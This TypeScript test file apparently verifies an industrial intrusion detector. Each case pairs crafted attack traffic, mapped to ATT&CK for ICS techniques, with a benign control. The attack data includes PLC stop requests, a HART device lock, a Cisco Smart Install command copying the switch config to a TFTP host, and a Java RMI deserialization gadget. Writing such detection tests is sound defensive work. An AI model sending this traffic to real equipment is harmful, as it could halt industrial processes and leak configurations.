/** Devices that somebody asks for what only their own people ask: connections, locks, programs, stops by their pages, debuggers. */
import { hex } from '#bytes/hex'
import type { ScriptStep } from '#model/script'
import * as cip from '#protocols/cip/testing/encode'
import * as hart from '#protocols/hart-ip/testing/encode'
import * as mqtt from '#protocols/mqtt/testing/encode'
import * as fox from '#protocols/niagara-fox/testing/encode'
import * as rpc from '#protocols/rpc/testing/encode'
import { series } from '../attempts.ts'
import { conversation } from '../other-protocols/conversation.ts'
import type { AlertProof, Scene } from '../proof.ts'
import { attacker, THEN, usual, withoutBaseline } from './proof.ts'

const text = (words: string) => new TextEncoder().encode(words)
const device = { ip: '10.20.0.2', mac: '02:00:00:00:00:02' } as const
const gateway = { ip: '10.20.0.254', mac: '02:00:00:00:00:fe' } as const

const udp = (port: number, lines: readonly ScriptStep[], how: Partial<Scene> = {}): Scene => ({
  name: 'asked',
  over: { transport: 'udp', port },
  lines,
  ...how,
})
const tcp = (port: number, lines: readonly ScriptStep[], how: Partial<Scene> = {}): Scene => ({
  name: 'asked',
  over: { transport: 'tcp', port },
  client: attacker,
  lines,
  ...how,
})

const connection = {
  targetToOriginatorId: 0x80fe0017,
  serial: 5,
  vendor: 77,
  originatorSerial: 0x12345678,
  transport: 0xa3,
  interval: 2_000_000,
  parameters: 0x43f8,
  path: cip.messageRouterPath(0),
}
const onCip = { carriedBy: 'enip' } as const
const opened = (at: number) =>
  conversation(onCip, [[cip.forwardOpen(connection), cip.forwardOpenReply(connection, 9)]], [], { at })
const closed = (how: Partial<Scene>) =>
  conversation(onCip, [[cip.forwardClose(connection), cip.forwardCloseReply(connection)]], [], how)

const locked = (code: number): Scene =>
  tcp(
    5094,
    [
      ['client', hart.initiate('request', 1)],
      ['server', hart.initiate('response', 1)],
      [
        'client',
        hart.tokenPassing('request', 2, {
          address: Uint8Array.of(0),
          command: 71,
          data: Uint8Array.of(code),
        }),
      ],
    ],
    { at: THEN },
  )
const station = (file: string): Scene =>
  tcp(1911, [
    ['client', fox.hello(1, { host: 'bench', app: 'Workbench', version: '3.7.44' })],
    ['server', fox.hello(0, { host: 'jace', app: 'Station', version: '3.5.41', station: 'HQ' })],
    ['client', fox.message('s', 3, -1, 'file get', [['file', file]])],
  ])

const atBroker = (client: string, topic: string, payload: string): readonly ScriptStep[] => [
  ['client', mqtt.connect({ client })],
  ['server', mqtt.connack()],
  ['client', mqtt.publish({ topic, payload, retain: true })],
]
const clearedAll = tcp(1883, [
  ['client', mqtt.connect({ client: 'tidy' })],
  ['server', mqtt.connack()],
  ...series(
    12,
    1,
    (i): ScriptStep => ['client', mqtt.publish({ topic: `line${i}/limits`, payload: '', retain: true })],
  ),
])

/** A form that comes in two segments, the second of one byte. */
const posted = (path: string, body: string): readonly ScriptStep[] => [
  [
    'client',
    text(
      `POST ${path} HTTP/1.1\r\nHost: 10.20.0.2\r\nContent-Length: ${body.length}\r\n\r\n${body.slice(0, -1)}`,
    ),
  ],
  ['client', text(body.slice(-1))],
  ['server', text('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\n{}')],
]
const changed = (mode: string) =>
  `{"id":1,"jsonrpc":"2.0","method":"Plc.RequestChangeOperatingMode","params":{"mode":"${mode}"}}`

const smartInstall = (type: number, words: string) => {
  const body = text(words)
  return Uint8Array.of(...hex('00000001 00000001'), 0, 0, 0, type, 0, 0, 0, body.length, ...body)
}
const remoteCall = (name: string): readonly ScriptStep[] => [
  ['client', hex('4a524d49 0002 4b')],
  ['server', hex('4e 0009 31302e32302e302e31 0000c001')],
  ['client', Uint8Array.of(...hex('50 aced0005 7722 7372 0037'), ...text(name))],
]
const debugging = (procedure: number) =>
  udp(17185, [['client', rpc.call(7, { program: 0x55555555, version: 1, procedure }, hex('00000002'))]], {
    client: attacker,
  })

export const proofs: readonly AlertProof[] = [
  withoutBaseline(
    'port-mapped-by-a-controller',
    { rule: 'port-mapped', technique: 'T0883' },
    [
      usual,
      udp(5351, [['client', hex('00 02 0000 01f6 1f40 00000e10')]], {
        at: THEN,
        client: device,
        server: gateway,
      }),
    ],
    [usual, udp(5351, [['client', hex('00 00')]], { at: THEN, client: device, server: gateway })],
  ),
  withoutBaseline(
    'connection-of-another-ended',
    { rule: 'cip-connection-closed-by-other-client', technique: 'T0814' },
    [opened(0), closed({ at: THEN, client: attacker })],
    [opened(0), closed({ at: THEN })],
  ),
  withoutBaseline(
    'device-locked-for-good',
    { rule: 'commands-from-unknown-client', technique: 'T1692.001' },
    [usual, locked(2)],
    [usual, locked(1)],
  ),
  withoutBaseline(
    'station-read',
    { rule: 'program-uploaded', technique: 'T0845' },
    [station('file:^config.bog')],
    [station('file:^notes.txt')],
  ),
  withoutBaseline(
    'retained-messages-cleared',
    { rule: 'retained-messages-cleared', technique: 'T0809' },
    [clearedAll],
    [
      tcp(1883, [
        ...atBroker('plc1', 'line1/limits', '50'),
        ['client', mqtt.publish({ topic: 'line1/limits', payload: '', retain: true })],
      ]),
    ],
  ),
  withoutBaseline(
    'stopped-by-its-own-page',
    { rule: 'controller-stopped', technique: 'T0858' },
    [tcp(80, posted('/CPUCommands', 'PriNav=Start&Stop=1'))],
    [tcp(80, posted('/CPUCommands', 'PriNav=Start&Run=1'))],
  ),
  withoutBaseline(
    'stopped-by-its-web-api',
    { rule: 'controller-stopped', technique: 'T0858' },
    [tcp(80, posted('/api/jsonrpc', changed('stop')))],
    [tcp(80, posted('/api/jsonrpc', '{"id":1,"jsonrpc":"2.0","method":"Plc.ReadOperatingMode"}'))],
  ),
  withoutBaseline(
    'switch-set-up-from-afar',
    { rule: 'cisco-smart-install', technique: 'T0866' },
    [tcp(4786, [['client', smartInstall(8, 'copy system:running-config tftp://10.20.0.66/x')]])],
    [tcp(4786, [['client', text('GET / HTTP/1.1\r\nHost: x\r\n\r\n')]])],
  ),
  withoutBaseline(
    'object-that-runs-as-code',
    { rule: 'exploit-attempted', technique: 'T0866' },
    [tcp(1099, remoteCall('org.apache.commons.collections.functors.InvokerTransformer'))],
    [tcp(1099, remoteCall('java.rmi.registry.Registry'))],
  ),
  withoutBaseline(
    'vxworks-debug-agent',
    { rule: 'vxworks-debug-agent', technique: 'T0866' },
    [debugging(1)],
    [
      udp(111, [
        [
          'client',
          rpc.call(
            7,
            { program: 100_000, version: 2, procedure: 3 },
            hex('000186a3 00000003 00000006 00000000'),
          ),
        ],
      ]),
    ],
  ),
]
